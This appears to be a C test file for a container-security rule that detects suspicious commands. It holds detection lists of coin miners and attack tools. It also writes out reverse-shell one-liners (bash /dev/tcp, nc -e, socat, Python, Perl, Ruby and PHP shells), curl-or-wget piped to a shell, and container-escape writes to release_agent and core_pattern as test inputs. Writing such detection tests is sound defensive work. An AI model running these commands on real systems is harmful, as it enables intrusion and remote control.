/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The suspicious-command rule: every name and shape of its lists, and where in a command line a name counts.
 */
#include <criterion/criterion.h>
#include <string.h>

#include "rules_view.h"

TestSuite(rules_suspicious_command, .init = view_begin, .fini = view_end);

enum { ARGS_MAX = 8 };

/* What one command line is said to be: the first message, or "" */
static const char *said(const char *const args[ARGS_MAX], size_t n)
{
	container.process.args = (struct strings){args, n};
	judge(&rule_suspicious_command, "{}");
	return findings.n > 0 ? findings.items[0].message : "";
}

static const char *of_one(const char *word)
{
	return said((const char *const[ARGS_MAX]){word}, 1);
}

static const char *of_script(const char *script)
{
	return said((const char *const[ARGS_MAX]){"/bin/sh", "-c", script}, 3);
}

struct program {
	char name[16];
	char message[40];
	char alert[40];
	enum severity severity;
};

static const struct program programs[] = {
	{"sshd", "runs an SSH server", "K8S.NODE_ContainerSSH", SEVERITY_MEDIUM},
	{"dropbear", "runs an SSH server", "K8S.NODE_ContainerSSH", SEVERITY_MEDIUM},
	{"xmrig", "runs a coin miner", "K8S.NODE_DigitalCurrencyMining", SEVERITY_HIGH},
	{"xmr-stak", "runs a coin miner", "K8S.NODE_DigitalCurrencyMining", SEVERITY_HIGH},
	{"minerd", "runs a coin miner", "K8S.NODE_DigitalCurrencyMining", SEVERITY_HIGH},
	{"minergate", "runs a coin miner", "K8S.NODE_DigitalCurrencyMining", SEVERITY_HIGH},
	{"cpuminer", "runs a coin miner", "K8S.NODE_DigitalCurrencyMining", SEVERITY_HIGH},
	{"ccminer", "runs a coin miner", "K8S.NODE_DigitalCurrencyMining", SEVERITY_HIGH},
	{"ethminer", "runs a coin miner", "K8S.NODE_DigitalCurrencyMining", SEVERITY_HIGH},
	{"cgminer", "runs a coin miner", "K8S.NODE_DigitalCurrencyMining", SEVERITY_HIGH},
	{"bfgminer", "runs a coin miner", "K8S.NODE_DigitalCurrencyMining", SEVERITY_HIGH},
	{"sgminer", "runs a coin miner", "K8S.NODE_DigitalCurrencyMining", SEVERITY_HIGH},
	{"claymore", "runs a coin miner", "K8S.NODE_DigitalCurrencyMining", SEVERITY_HIGH},
	{"nbminer", "runs a coin miner", "K8S.NODE_DigitalCurrencyMining", SEVERITY_HIGH},
	{"t-rex", "runs a coin miner", "K8S.NODE_DigitalCurrencyMining", SEVERITY_HIGH},
	{"gminer", "runs a coin miner", "K8S.NODE_DigitalCurrencyMining", SEVERITY_HIGH},
	{"lolminer", "runs a coin miner", "K8S.NODE_DigitalCurrencyMining", SEVERITY_HIGH},
	{"phoenixminer", "runs a coin miner", "K8S.NODE_DigitalCurrencyMining", SEVERITY_HIGH},
	{"teamredminer", "runs a coin miner", "K8S.NODE_DigitalCurrencyMining", SEVERITY_HIGH},
	{"kube-hunter", "runs a known attack tool", "K8S.NODE_KnownLinuxAttackTool", SEVERITY_HIGH},
	{"peirates", "runs a known attack tool", "K8S.NODE_KnownLinuxAttackTool", SEVERITY_HIGH},
	{"amicontained", "runs a known attack tool", "K8S.NODE_KnownLinuxAttackTool", SEVERITY_MEDIUM},
	{"deepce.sh", "runs a known attack tool", "K8S.NODE_KnownLinuxAttackTool", SEVERITY_HIGH},
	{"linpeas.sh", "runs a known attack tool", "K8S.NODE_KnownLinuxAttackTool", SEVERITY_HIGH},
	{"mimipenguin", "runs a known attack tool", "K8S.NODE_KnownLinuxAttackTool", SEVERITY_HIGH},
	{"chisel", "runs a known attack tool", "K8S.NODE_KnownLinuxAttackTool", SEVERITY_MEDIUM},
	{"masscan", "runs a network scanner", "K8S.NODE_KnownLinuxAttackTool", SEVERITY_MEDIUM},
	{"nmap", "runs a network scanner", "K8S.NODE_KnownLinuxAttackTool", SEVERITY_MEDIUM},
	{"zmap", "runs a network scanner", "K8S.NODE_KnownLinuxAttackTool", SEVERITY_MEDIUM},
	{"docker", "runs a container client", "K8S.NODE_ImageBuildOnNode", SEVERITY_LOW},
	{"dockerd", "runs a container client", "K8S.NODE_ImageBuildOnNode", SEVERITY_LOW},
	{"podman", "runs a container client", "K8S.NODE_ImageBuildOnNode", SEVERITY_LOW},
	{"nerdctl", "runs a container client", "K8S.NODE_ImageBuildOnNode", SEVERITY_LOW},
	{"crictl", "runs a container client", "K8S.NODE_ImageBuildOnNode", SEVERITY_LOW},
	{"ctr", "runs a container client", "K8S.NODE_ImageBuildOnNode", SEVERITY_LOW},
	{"buildctl", "runs a container client", "K8S.NODE_ImageBuildOnNode", SEVERITY_LOW},
	{"runc", "runs a container client", "K8S.NODE_ImageBuildOnNode", SEVERITY_LOW},
	{"crun", "runs a container client", "K8S.NODE_ImageBuildOnNode", SEVERITY_LOW},
	{"nsenter", "makes or enters namespaces", "K8S.NODE_NamespaceCreation", SEVERITY_MEDIUM},
	{"unshare", "makes or enters namespaces", "K8S.NODE_NamespaceCreation", SEVERITY_MEDIUM},
};

Test(rules_suspicious_command, programs_by_their_names)
{
	for (size_t i = 0; i < sizeof(programs) / sizeof(programs[0]); i++) {
		const struct program *program = &programs[i];

		cr_expect_str_eq(of_one(program->name), program->message, "%s", program->name);
		cr_assert_eq(findings.n, 1);
		cr_expect_str_eq(findings.items[0].value, program->name);
		cr_expect_str_eq(findings.items[0].alert, program->alert);
		cr_expect_eq(findings.items[0].severity, program->severity);
		cr_expect_str_eq(of_one(arena_printf(&arena, "/opt/%s", program->name)), program->message);
		cr_expect_str_eq(of_one(arena_printf(&arena, "%s2", program->name)), "");
		cr_expect_str_eq(of_one(arena_printf(&arena, "my%s", program->name)), "");
	}
}

Test(rules_suspicious_command, shapes_by_an_example_each)
{
	static const char scripts[][64] = {"bash -i >& /dev/tcp/1.2.3.4/5 0>&1",
					   "sh -i >& /dev/udp/1.2.3.4/5 0>&1",
					   "mkfifo /tmp/f; cat /tmp/f | nc 1.2.3.4 5",
					   "nc -e /x 1.2.3.4 5",
					   "nc 1.2.3.4 5 -e /bin/x",
					   "nc 1.2.3.4 5 -e sh",
					   "nc 1.2.3.4 5 -e bash",
					   "ncat -e /x 1.2.3.4 5",
					   "ncat --exec /x 1.2.3.4 5",
					   "socat tcp:1.2.3.4:5 exec:x",
					   "socat tcp:1.2.3.4:5 EXEC:x",
					   "s=socket.socket(); os.dup2(s,0); call(['/bin/sh'])",
					   "s=socket.socket(); import pty; pty.spawn('x')",
					   "perl -e 'use Socket; exec {\"/bin/sh\"}'",
					   "ruby -e 'TCPSocket; exec \"/bin/sh\"'",
					   "php -r '$s=fsockopen(\"1.2.3.4\",5); x(\"/bin/sh\")'"};
	static const char downloads[][48] = {"curl x | sh",
					     "curl x | bash",
					     "curl x |sh",
					     "curl x |bash",
					     "curl x; chmod +x y",
					     "bash <(curl x)",
					     "wget x | sh",
					     "wget x | bash",
					     "wget x |sh",
					     "wget x |bash",
					     "wget x; chmod +x y",
					     "bash <(wget x)",
					     "echo x | base64 -d | sh",
					     "echo x | base64 -d | bash"};
	static const char attacks[][64] = {"echo /x >/c/release_agent", "echo '|/x' >/proc/sys/kernel/core_pattern"};

	for (size_t i = 0; i < sizeof(scripts) / sizeof(scripts[0]); i++) {
		cr_expect_str_eq(of_script(scripts[i]), "looks like a reverse shell", "%s", scripts[i]);
		cr_assert_eq(findings.n, 1, "%s", scripts[i]);
		cr_expect_eq(findings.items[0].severity, SEVERITY_HIGH);
		cr_expect_str_eq(findings.items[0].alert, "K8S.NODE_ReverseShell");
	}
	for (size_t i = 0; i < sizeof(downloads) / sizeof(downloads[0]); i++) {
		cr_expect_str_eq(of_script(downloads[i]), "downloads and runs code", "%s", downloads[i]);
		cr_assert_eq(findings.n, 1, "%s", downloads[i]);
		cr_expect_str_eq(findings.items[0].alert, "K8S.NODE_DownloadAndRunCombo");
	}
	for (size_t i = 0; i < sizeof(attacks) / sizeof(attacks[0]); i++)
		cr_expect_str_eq(of_script(attacks[i]), "runs a known attack tool", "%s", attacks[i]);
	cr_expect_str_eq(of_script("x -o stratum+tcp://pool:1"), "runs a coin miner");
	cr_expect_str_eq(of_script("x -o stratum+ssl://pool:1"), "runs a coin miner");
	cr_expect_str_eq(of_script("cat /proc/sys/kernel/core_pattern"), "", "reading it");
}

/* A word that only ends like a part is another program. */
Test(rules_suspicious_command, words_are_whole)
{
	static const char letters[] = "azAZ09_-", others[] = " ;|&(`/.{@[:";

	for (size_t i = 0; letters[i]; i++)
		cr_expect_str_eq(of_script(arena_printf(&arena, "%cnc -e x", letters[i])), "", "%c", letters[i]);
	for (size_t i = 0; others[i]; i++)
		cr_expect_str_eq(of_script(arena_printf(&arena, "%cnc -e x", others[i])), "looks like a reverse shell",
				 "%c", others[i]);
	cr_expect_str_eq(of_script("rsync -e x; nc -e x"), "looks like a reverse shell");
}

Test(rules_suspicious_command, wrappers_before_a_program)
{
	static const char wrappers[][12] = {"env",    "nohup", "setsid",    "timeout", "nice", "busybox",
					    "stdbuf", "tini",  "dumb-init", "sudo",    "exec", "catatonit"};

	for (size_t i = 0; i < sizeof(wrappers) / sizeof(wrappers[0]); i++) {
		const char *wrapper = wrappers[i];

		cr_expect_str_eq(said((const char *const[ARGS_MAX]){wrapper, "xmrig"}, 2), "runs a coin miner", "%s",
				 wrapper);
		cr_expect_str_eq(of_script(arena_printf(&arena, "%s xmrig", wrapper)), "runs a coin miner", "%s",
				 wrapper);
	}
	cr_expect_str_eq(said((const char *const[ARGS_MAX]){"nice", "-n", "5", "xmrig"}, 4), "runs a coin miner");
	cr_expect_str_eq(said((const char *const[ARGS_MAX]){"timeout", "0", "xmrig"}, 3), "runs a coin miner");
	cr_expect_str_eq(said((const char *const[ARGS_MAX]){"timeout", "9s", "xmrig"}, 3), "runs a coin miner");
	cr_expect_str_eq(said((const char *const[ARGS_MAX]){"env", "A=1", "xmrig"}, 3), "runs a coin miner");
	cr_expect_str_eq(said((const char *const[ARGS_MAX]){"tini", "--", "xmrig"}, 3), "runs a coin miner");
	cr_expect_str_eq(said((const char *const[ARGS_MAX]){"timeout", "/x", "xmrig"}, 3), "", "an argument of /x");
	cr_expect_str_eq(said((const char *const[ARGS_MAX]){"timeout", ":x", "xmrig"}, 3), "");
	cr_expect_str_eq(said((const char *const[ARGS_MAX]){"env", "ls", "xmrig"}, 3), "");
	cr_expect_str_eq(said((const char *const[ARGS_MAX]){"env", "xmrig"}, 1), "", "behind the last there is none");
}

Test(rules_suspicious_command, shells)
{
	static const char shells[][8] = {"sh", "bash", "dash", "ash", "zsh", "ksh"};

	for (size_t i = 0; i < sizeof(shells) / sizeof(shells[0]); i++)
		cr_expect_str_eq(said((const char *const[ARGS_MAX]){shells[i], "-c", "xmrig"}, 3), "runs a coin miner",
				 "%s", shells[i]);
	cr_expect_str_eq(said((const char *const[ARGS_MAX]){"sh", "-e", "-c", "xmrig"}, 4), "runs a coin miner");
	cr_expect_str_eq(said((const char *const[ARGS_MAX]){"sh", "-ec", "xmrig"}, 3), "runs a coin miner");
	cr_expect_str_eq(said((const char *const[ARGS_MAX]){"sh", "run", "-c", "xmrig"}, 4), "", "arguments of run");
	cr_expect_str_eq(said((const char *const[ARGS_MAX]){"sh", "-c", "xmrig"}, 2), "", "none behind the last");
	cr_expect_str_eq(said((const char *const[ARGS_MAX]){"sh", "-e", "xmrig"}, 3), "", "a file's name");
}

Test(rules_suspicious_command, where_a_command_begins)
{
	static const char commands[][32] = {
		"xmrig",      " xmrig",	      "\txmrig -o x",	     "true;xmrig",   "true && xmrig",	"true || xmrig",
		"(xmrig)",    "{ xmrig; }",   "x=`xmrig`",	     "x=$(xmrig)",   "true\nxmrig",	"true | xmrig",
		"A=1 xmrig",  "A=1\txmrig",   "A=1 B=2 nohup xmrig", "nohup\txmrig", "nohup A=1 xmrig", "/opt/xmrig",
		"A=1  xmrig", "env /x/xmrig", "true & xmrig"};
	static const char others[][32] = {"echo xmrig", "A=xmrig", "ls A=1 xmrig", "cd /xmrig/x",
					  "xmrig2",	"A=1",	   "nohup ",	   ""};

	for (size_t i = 0; i < sizeof(commands) / sizeof(commands[0]); i++)
		cr_expect_str_eq(of_script(commands[i]), "runs a coin miner", "%s", commands[i]);
	for (size_t i = 0; i < sizeof(others) / sizeof(others[0]); i++)
		cr_expect_str_eq(of_script(others[i]), "", "%s", others[i]);
}

/* The line is as long as its words, whatever is put into memory behind it. */
Test(rules_suspicious_command, values_are_whole)
{
	for (size_t n = 1; n < 40; n++) {
		char *word = arena_alloc(&arena, n + 10);

		cr_assert_not_null(word);
		memcpy(word, "/dev/tcp/", 9);
		memset(word + 9, 'x', n);
		word[9 + n] = '\0';
		cr_expect_str_eq(said((const char *const[ARGS_MAX]){word, "a", "b", "c", "d", "e"}, 6),
				 "looks like a reverse shell");
		cr_expect_str_eq(findings.items[0].value, arena_printf(&arena, "%s a b c d e ", word));
	}
}

Test(rules_suspicious_command, what_lies_before_the_line_is_no_word)
{
	static const char *const args[] = {"nc -e x"};
	static const struct strings settings = {NULL, 0};

	for (size_t n = 16; n <= 64; n += 16) {
		char *before = arena_alloc(&arena, n);

		cr_assert_not_null(before);
		memset(before, 'a', n);
		container.process.args = (struct strings){args, 1};
		findings = (struct findings){.arena = &arena, .rule = &rule_suspicious_command};
		rule_suspicious_command.judge(&container, &host, &settings, &findings);
		cr_expect_eq(findings.n, 1);
	}
}

Test(rules_suspicious_command, a_line_that_memory_cannot_hold)
{
	static char word[64 << 10];
	static const char *const args[] = {word};
	static const struct strings settings = {NULL, 0};
	struct arena small;

	memset(word, 'x', sizeof(word) - 1);
	arena_init(&small, 16 << 10);
	container.process.args = (struct strings){args, 1};
	findings = (struct findings){.arena = &small, .rule = &rule_suspicious_command};
	rule_suspicious_command.judge(&container, &host, &settings, &findings);
	cr_expect(findings.failed);
	arena_release(&small);
}

Test(rules_suspicious_command, patterns_of_the_policy)
{
	container.process.args = (struct strings){(const char *const[]){"/opt/a/b", "c"}, 2};
	judge(&rule_suspicious_command, "{\"patterns\": [\"*opt*b\"]}");
	cr_assert_eq(findings.n, 1, "any text is also one with slashes");
	cr_expect_str_eq(findings.items[0].value, "/opt/a/b");
	cr_expect_str_eq(findings.items[0].message, "matches a pattern of the policy");
	cr_expect_null(findings.items[0].alert);
	judge(&rule_suspicious_command, "{\"patterns\": [\"c\", \"/opt/*\"]}");
	cr_expect_eq(findings.n, 2);
	judge(&rule_suspicious_command, "{\"patterns\": [\"opt\"]}");
	cr_expect_eq(findings.n, 0);
}

Test(rules_suspicious_command, images)
{
	static const struct {
		char image[40];
		size_t findings;
	} images[] = {{"xmrig", 1},
		      {"xmrig:6", 1},
		      {"host:5000/xmrig", 1},
		      {"host:5000/o/xmrig:6", 1},
		      {"xmrig@sha256:00", 1},
		      {"kube-hunter", 1},
		      {"host/xmrig/web", 0},
		      {"xmrig2", 0},
		      {"docker:27", 0},
		      {"aquasec/kube-hunter:1", 1},
		      {"", 0}};

	for (size_t i = 0; i < sizeof(images) / sizeof(images[0]); i++) {
		container.identity.image = images[i].image;
		cr_expect_eq(strlen(of_one("x")) > 0, images[i].findings, "%s", images[i].image);
		cr_expect_eq(found_at("/annotations"), images[i].findings);
	}
	container.identity.image = "xmrig";
	(void)of_one("x");
	cr_expect_str_eq(findings.items[0].alert, "K8S_MaliciousContainerImage");
	container.identity.image = "kube-hunter";
	(void)of_one("x");
	cr_expect_str_eq(findings.items[0].alert, "K8S_PenTestToolsKubeHunter");
}

Test(rules_suspicious_command, an_exec)
{
	container.exec = true;
	(void)of_one("xmrig");
	cr_expect_eq(found_at("/args"), 1);
	container.exec = false;
	(void)of_one("xmrig");
	cr_expect_eq(found_at("/process/args"), 1);
	(void)of_one("OCIGATE-STANDARD-ALERT-TEST");
	cr_assert_eq(findings.n, 1);
	cr_expect_str_eq(findings.items[0].alert, "K8S.NODE_EICAR");
}
